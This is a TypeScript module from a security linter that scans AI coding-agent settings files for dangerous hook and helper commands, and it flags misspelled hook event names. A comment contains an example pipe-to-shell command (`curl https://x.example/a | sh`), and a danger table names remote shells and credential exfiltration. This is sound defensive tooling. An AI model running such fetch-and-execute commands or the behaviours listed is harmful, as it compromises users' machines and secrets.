import { wordList, wordSet } from '../../../text/words.js';
import { type Phrase, plain, say } from '../../../text/phrase.js';
import type { SettingsFile } from '../../settings/files.js';
import {
  along,
  entriesOf,
  firstAndLast,
  nodeText,
  type Setting,
  type SettingEntry,
  under,
} from '../../settings/read.js';
import { type Check, digestOf, shownName, textsOf } from './check.js';
import { type Danger, dangerOf, dangerOfWords } from './danger.js';
import { nearest } from '../../../text/nearest.js';

/* Which commands in settings run by themselves and are dangerous? `curl https://x.example/a | sh` in a hook. */

/** Keys under which a hook, or a setting beside hooks, names a command. */
const COMMAND_KEYS = wordSet(`
  command bash powershell windows linux osx apiKeyHelper awsAuthRefresh awsCredentialExport otelHeadersHelper
  gcpAuthRefresh headersHelper refreshCommand
`);

/** What a dangerous command does, reading on from where it stands. */
export const DANGERS: Readonly<Record<Danger, { readonly does: string; readonly remedy: string }>> =
  {
    download: {
      does: 'runs a fresh download, which can change at any time',
      remedy: 'Commit the script and run it from there, or install a pinned version.',
    },
    encoded: {
      does: 'runs encoded text, which no reviewer can read',
      remedy: 'Commit the script in plain text and run it from there.',
    },
    'remote-shell': {
      does: 'gives a shell to another machine',
      remedy: 'Remove it, and find out who added it.',
    },
    credentials: {
      does: 'sends keys or credentials to a server',
      remedy: 'Remove it, and find out who added it.',
    },
  };

/** Commands that run on everybody's machine without asking: hooks, and helpers beside them. */
export const hooks: Check = function* ({ file, root }) {
  for (const command of commandsBelow(root, file)) {
    const { name, event, value } = command;
    const words = wordsOf(command);
    const danger = dangerIn(words);
    if (danger === null) continue;
    const where = event === '' ? say`the command of ${name}` : say`a hook of ${shownName(event)}`;
    yield {
      severity: 'error',
      at: value.at,
      message: say`${where} ${plain(DANGERS[danger].does)}, ${whenItRuns(event, file)}`,
      remedy: plain(DANGERS[danger].remedy),
      key: `${event === '' ? name : event}/${danger}/${digestOf(words)}`,
    };
  }
};

/** A misspelled event is no shelter: whoever mends the name sets the command going. */
function whenItRuns(event: string, file: SettingsFile): Phrase {
  const meant = event === '' ? null : meantEvent(event, eventsOf(file) ?? [event]);
  return meant === null ? plain('without asking') : say`as soon as its event is spelled ${meant}`;
}

export function isDangerousHook({ name, value }: SettingEntry): boolean {
  return [...textsBelow(value, name, 0)].some((command) => dangerIn(wordsOf(command)) !== null);
}

/** A command and its arguments; none where it is no text. */
function wordsOf({ value, args }: NamedCommand): readonly string[] {
  const text = nodeText(value);
  return text === null ? [] : [text, ...textsOf(args).map((arg) => arg.text)];
}

function dangerIn(words: readonly string[]): Danger | null {
  const [text, ...args] = words;
  if (text === undefined) return null;
  return args.length === 0 ? dangerOf(text) : dangerOfWords(words);
}

/** A command in settings, with the event that runs it; empty for a helper. */
interface NamedCommand {
  readonly name: string;
  readonly event: string;
  readonly value: Setting;
  readonly args: Setting | undefined;
}

/** All commands of a settings file that run by themselves. */
function* commandsBelow(root: Setting, file: SettingsFile): Iterable<NamedCommand> {
  if (file.holds === 'servers') return;
  for (const { value } of under(root, 'hooks')) {
    // `[[hooks]]` of a TOML file.
    if (value.kind === 'list') yield* textsBelow(value, 'hooks', 0);
    for (const event of entriesOf(value)) yield* textsBelow(event.value, event.name, 0);
  }
  if (file.holds !== 'settings')
    for (const event of entriesOf(root))
      if (event.name !== 'hooks') yield* textsBelow(event.value, event.name, 0);
  if (file.client !== 'claude') return;
  for (const { name, value } of entriesOf(root))
    if (COMMAND_KEYS.has(name)) yield { name, event: '', value, args: undefined };
  for (const name of ['statusLine', 'subagentStatusLine', 'fileSuggestion'])
    for (const { value } of along(root, [name, 'command']))
      yield { name, event: '', value, args: undefined };
}

/** Levels of a hook below its event, with room to spare: a list, a group, a list, a hook are four. */
const DEEPEST = 8;

function* textsBelow(setting: Setting, event: string, depth: number): Iterable<NamedCommand> {
  if (depth > DEEPEST) return;
  if (setting.kind === 'list')
    for (const item of setting.items) yield* textsBelow(item, event, depth + 1);
  for (const { name, value } of entriesOf(setting))
    if (!COMMAND_KEYS.has(name)) yield* textsBelow(value, event, depth + 1);
  if (setting.kind !== 'map') return;
  const args = firstAndLast(setting, 'args').map(({ value }) => value);
  for (const name of COMMAND_KEYS)
    for (const { value } of firstAndLast(setting, name))
      for (const beside of args.length === 0 ? [undefined] : args)
        yield { name, event, value, args: beside };
}

/**
 * Sources: code.claude.com/docs/en/hooks, cursor.com/docs/agent/hooks,
 * geminicli.com/docs/hooks/reference, developers.openai.com/codex/hooks, docs.github.com/copilot
 * (hooks).
 */
export const CLAUDE_EVENTS: readonly string[] = wordList(`
  PreToolUse PostToolUse PostToolUseFailure PostToolBatch PermissionRequest PermissionDenied Notification
  UserPromptSubmit UserPromptExpansion Stop StopFailure SubagentStart SubagentStop PreCompact PostCompact
  Elicitation ElicitationResult TeammateIdle TaskCreated TaskCompleted Setup InstructionsLoaded CwdChanged
  FileChanged ConfigChange WorktreeCreate WorktreeRemove SessionStart SessionEnd PreModelSwitch PostModelSwitch
  MessageDisplay DirectoryAdded
`);

export const CURSOR_EVENTS: readonly string[] = wordList(`
  sessionStart sessionEnd preToolUse postToolUse postToolUseFailure subagentStart subagentStop
  beforeShellExecution afterShellExecution beforeMCPExecution afterMCPExecution beforeReadFile afterFileEdit
  beforeSubmitPrompt preCompact stop afterAgentResponse afterAgentThought beforeTabFileRead afterTabFileEdit
  workspaceOpen
`);

export const GEMINI_EVENTS: readonly string[] = wordList(`
  BeforeTool AfterTool BeforeAgent AfterAgent Notification SessionStart SessionEnd PreCompress BeforeModel
  AfterModel BeforeToolSelection
`);

export const COPILOT_EVENTS: readonly string[] = wordList(`
  sessionStart sessionEnd userPromptSubmitted preToolUse postToolUse postToolUseFailure agentStop subagentStart
  subagentStop errorOccurred preCompact permissionRequest notification
`);

/** The events of the agents that read a file; null where that is not known. */
export function eventsOf({ client, holds }: SettingsFile): readonly string[] | null {
  if (client === 'claude') return CLAUDE_EVENTS;
  if (client === 'cursor') return CURSOR_EVENTS;
  if (client === 'gemini') return GEMINI_EVENTS;
  return client === 'other' && holds === 'hooks'
    ? [...CLAUDE_EVENTS, ...CURSOR_EVENTS, ...GEMINI_EVENTS, ...COPILOT_EVENTS]
    : null;
}

/** The event that a misspelled name stands for; null where it is known, or like none. */
export function meantEvent(name: string, known: readonly string[]): string | null {
  if (known.includes(name)) return null;
  return known.find((event) => event.toLowerCase() === name.toLowerCase()) ?? nearest(name, known);
}
